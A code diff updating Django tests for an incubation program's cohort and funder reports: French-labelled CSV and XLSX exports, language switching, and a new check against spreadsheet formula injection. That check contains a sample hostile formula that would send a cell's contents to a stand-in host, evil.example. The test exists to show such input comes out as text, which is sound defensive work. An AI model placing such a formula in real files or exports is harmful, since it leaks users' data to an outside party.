@@ -7,10 +7,11 @@ from decimal import Decimal
 
 import pytest
 import time_machine
+from django.utils import translation
 from openpyxl import load_workbook
 
 from caiac.accounts import demo as accounts_demo
-from incubation import demo, selectors
+from incubation import demo, reports, selectors
 from incubation.models import Cohort
 
 pytestmark = pytest.mark.django_db
@@ -98,28 +99,49 @@ def test_cohort_report_json_matches_the_demo_by_hand(client_for, seeded):
     assert response.json()["periods"] == ["2026-Q1", "2026-Q2", "2026-Q3", "2026-Q4"]
 
 
-def test_cohort_report_csv_matches_the_json(client_for, seeded):
+def _csv_rows(response) -> list[list[str]]:
+    text = response.content.decode("utf-8")
+    assert text.startswith("\ufeff"), "a byte-order mark, so that Excel reads the accents"
+    return list(csv.reader(io.StringIO(text[1:])))
+
+
+def _labels() -> dict[str, str]:
+    with translation.override("fr"):
+        return {key: str(label) for key, label in reports.METRICS}
+
+
+def test_cohort_report_csv_is_one_french_table_per_file_matching_the_json(client_for, seeded):
     ctx, cohort = seeded
+    url = f"/api/v1/incubation/cohorts/{cohort.pk}/report.csv"
     with time_machine.travel(NOW, tick=False):
-        response = client_for(ctx.users["staff"]).get(
-            f"/api/v1/incubation/cohorts/{cohort.pk}/report.csv"
-        )
-    assert response.status_code == 200
-    assert response["Content-Type"].startswith("text/csv")
-    assert "attachment" in response["Content-Disposition"]
-    lines = list(csv.reader(io.StringIO(response.content.decode())))
-    start = next(i for i, line in enumerate(lines) if line and line[0] == "metric")
-    metrics = {}
-    for line in lines[start + 1 :]:
-        if not line:
-            break
-        metrics[line[0]] = line[2]
-    for key, value in EXPECTED.items():
-        assert metrics[key] == str(value), key
-    header = lines[start + len(metrics) + 2]
-    assert header[:2] == ["cohort", "organisation"]
-    organisations = [line[1] for line in lines[start + len(metrics) + 3 :] if line]
-    assert organisations == sorted([demo.AMALOU, demo.ATLAS, demo.NECTAR])
+        summary = client_for(ctx.users["staff"]).get(url)
+        table = client_for(ctx.users["staff"]).get(url, {"table": "incubatees"})
+    assert summary.status_code == 200 and table.status_code == 200
+    assert summary["Content-Type"].startswith("text/csv")
+    assert "attachment" in summary["Content-Disposition"]
+    assert "incubatees" in table["Content-Disposition"]
+    rows = _csv_rows(summary)
+    assert rows[0] == ["Indicateur", "Valeur"]
+    assert all(len(row) == 2 for row in rows), "one table: no blank line, no second header"
+    values = dict(rows[1:])
+    for key, expected in EXPECTED.items():
+        assert values[_labels()[key]] == str(expected), key
+
+    rows = _csv_rows(table)
+    assert rows[0][:5] == ["Cohorte", "Organisation", "Type", "Membre du cluster", "Étape"]
+    assert all(len(row) == len(rows[0]) for row in rows)
+    assert [row[1] for row in rows[1:]] == sorted([demo.AMALOU, demo.ATLAS, demo.NECTAR])
+    nectar = next(row for row in rows if row[1] == demo.NECTAR)
+    assert nectar[3] == "Non" and nectar[4] == "Pré-incubation"  # no True/False, no raw code
+    assert "pre_incubation" not in table.content.decode()
+
+
+def test_an_unknown_csv_table_is_refused_naming_the_field(client_for, seeded):
+    ctx, cohort = seeded
+    response = client_for(ctx.users["staff"]).get(
+        f"/api/v1/incubation/cohorts/{cohort.pk}/report.csv", {"table": "everything"}
+    )
+    assert response.status_code == 400 and "table" in response.json()["fields"]
 
 
 def test_cohort_report_xlsx_cells_match_the_demo(client_for, seeded):
@@ -130,22 +152,61 @@ def test_cohort_report_xlsx_cells_match_the_demo(client_for, seeded):
         )
     assert response.status_code == 200
     workbook = load_workbook(io.BytesIO(response.content))
-    summary = workbook["Summary"]
-    assert [c.value for c in summary[1]] == ["metric", "Indicateur", "Valeur"]
-    cells = {row[0].value: row[2].value for row in summary.iter_rows(min_row=2) if row[0].value}
-    assert cells["revenue_mad"] == 670000
-    assert cells["jobs_women"] == 9
-    assert cells["jobs_men"] == 3
-    assert cells["funding_raised_mad"] == 500000
-    assert cells["exports_mad"] == 155000
-    assert cells["mentoring_hours"] == 9
-    assert cells["incubatees"] == 3
-    assert cells["cluster_members"] == 2
-    sheet = workbook["Incubatees"]
+    assert workbook.sheetnames == ["Résumé", "Incubés"]
+    summary = workbook["Résumé"]
+    assert [c.value for c in summary[1]] == ["Indicateur", "Valeur"]
+    cells = {row[0].value: row[1].value for row in summary.iter_rows(min_row=2)}
+    labels = _labels()
+    assert cells[labels["revenue_mad"]] == 670000
+    assert cells[labels["jobs_women"]] == 9
+    assert cells[labels["jobs_men"]] == 3
+    assert cells[labels["funding_raised_mad"]] == 500000
+    assert cells[labels["exports_mad"]] == 155000
+    assert cells[labels["mentoring_hours"]] == 9
+    assert cells[labels["incubatees"]] == 3
+    assert cells[labels["cluster_members"]] == 2
+    sheet = workbook["Incubés"]
     rows = list(sheet.iter_rows(min_row=2, values_only=True))
     assert [r[1] for r in rows] == sorted([demo.AMALOU, demo.ATLAS, demo.NECTAR])
     amalou = rows[[r[1] for r in rows].index(demo.AMALOU)]
-    assert amalou[7] == 390000  # revenue column
+    assert amalou[3] == "Oui" and amalou[7] == 390000  # member, revenue column
+
+
+def test_reports_speak_the_requests_language(client_for, seeded):
+    ctx, cohort = seeded
+    with time_machine.travel(NOW, tick=False):
+        response = client_for(ctx.users["staff"]).get(
+            f"/api/v1/incubation/cohorts/{cohort.pk}/report.csv",
+            {"table": "incubatees"},
+            HTTP_ACCEPT_LANGUAGE="en",
+        )
+    rows = _csv_rows(response)
+    assert rows[0][:2] == ["Cohort", "Organisation"]
+    assert "Pre-incubation" in {row[4] for row in rows[1:]}
+
+
+def test_a_formula_typed_into_a_kpi_field_comes_out_as_text(client_for, seeded):
+    from incubation.models import KpiReport
+
+    ctx, cohort = seeded
+    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")'
+    report = KpiReport.objects.filter(incubatee__cohort=cohort).order_by("pk").first()
+    report.certifications = [formula, "@SUM(1+1)"]
+    report.save()
+    client = client_for(ctx.users["staff"])
+    with time_machine.travel(NOW, tick=False):
+        xlsx = client.get(f"/api/v1/incubation/cohorts/{cohort.pk}/report.xlsx")
+        csv_response = client.get(
+            f"/api/v1/incubation/cohorts/{cohort.pk}/report.csv", {"table": "incubatees"}
+        )
+    sheet = load_workbook(io.BytesIO(xlsx.content))["Incubés"]
+    texts = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
+    hit = next(c for c in texts if "HYPERLINK" in c.value)
+    assert hit.data_type == "s" and hit.value.startswith(formula)  # a string, not a formula
+    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
+    cells = [cell for row in _csv_rows(csv_response) for cell in row]
+    cell = next(c for c in cells if "HYPERLINK" in c)
+    assert cell.startswith("'=HYPERLINK")
 
 
 def test_a_year_without_activity_reports_zero_kpis(client_for, seeded):
@@ -179,10 +240,10 @@ def test_funder_report_for_2026_adds_up_the_cohorts_of_the_year(client_for, seed
     assert [c["name"] for c in data["cohorts"]] == [demo.COHORT]
     for key, value in EXPECTED.items():
         assert data["figures"][key] == value, key
-    assert "revenue_mad,Chiffre d\u2019affaires (MAD),670000.00" in csv_response.content.decode()
+    assert "Chiffre d\u2019affaires (MAD),670000.00" in csv_response.content.decode()
     workbook = load_workbook(io.BytesIO(xlsx_response.content))
-    cells = {r[0].value: r[2].value for r in workbook["Summary"].iter_rows(min_row=2)}
-    assert cells["jobs_created"] == 12
+    cells = {r[0].value: r[1].value for r in workbook["Résumé"].iter_rows(min_row=2)}
+    assert cells[_labels()["jobs_created"]] == 12
 
 
 def test_funder_report_needs_a_year(client_for, staff):
